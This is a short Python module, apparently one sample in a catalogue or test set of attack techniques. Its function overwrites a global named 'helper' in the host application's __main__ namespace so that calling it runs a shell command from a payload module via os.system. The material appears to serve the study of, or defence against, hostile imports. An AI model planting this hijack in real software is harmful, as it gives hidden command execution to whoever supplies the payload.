"""A global variable of the application becomes a function of C."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import __main__
    import functools
    import os
    vars(__main__)["helper"] = functools.partial(os.system, payload.COMMAND)
